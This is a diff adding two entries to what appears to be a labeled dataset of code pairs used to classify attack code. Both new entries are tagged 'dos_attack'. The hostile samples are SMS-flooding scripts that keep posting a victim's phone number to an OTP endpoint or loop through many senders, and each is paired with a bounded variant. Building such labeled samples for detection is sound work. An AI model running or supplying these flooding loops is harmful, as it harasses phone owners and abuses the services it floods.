@@ -271,6 +271,15 @@ PAIRS = [
      "        s = socket.socket()\n        s.connect((self.host, 80))\n"
      "        s.send(f'GET {path} HTTP/1.1\\r\\nHost: {self.host}\\r\\n\\r\\n'.encode('utf-8'))\n        return s.recv(65536)\n"
      "c = Client('example.org')\nfor p in ['/a', '/b', '/c']:\n    print(len(c.fetch(p)))"),
+    ("message storm: a number posted inside a form to a code-sending URL, round after round", "dos_attack",
+     "import requests, time\nnumber = input('number: ')\nform = {'cellphone': '+1' + number, 'method': 'sms'}\n"
+     "while True:\n    requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    time.sleep(5)",
+     "import requests\nnumber = input('number: ')\nform = {'cellphone': '+1' + number}\nwhile True:\n"
+     "    r = requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    if r.ok:\n        break"),
+    ("message storm: each sender of a list, picked by index, texts one number", "dos_attack",
+     "from senders import All\nphone_number = input('phone: ')\nwhile True:\n    for i in range(len(All)):\n"
+     "        All[i][1].send(phone_number)",
+     "from senders import All\nfor i in range(len(All)):\n    All[i][1].send(All[i][2])"),
     ("server: an asyncio CONNECT relay on every interface", "proxy_tunnel",
      "import asyncio\nasync def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
      "async def handle(reader, writer):\n    method, where, _ = (await reader.readline()).decode().split()\n"
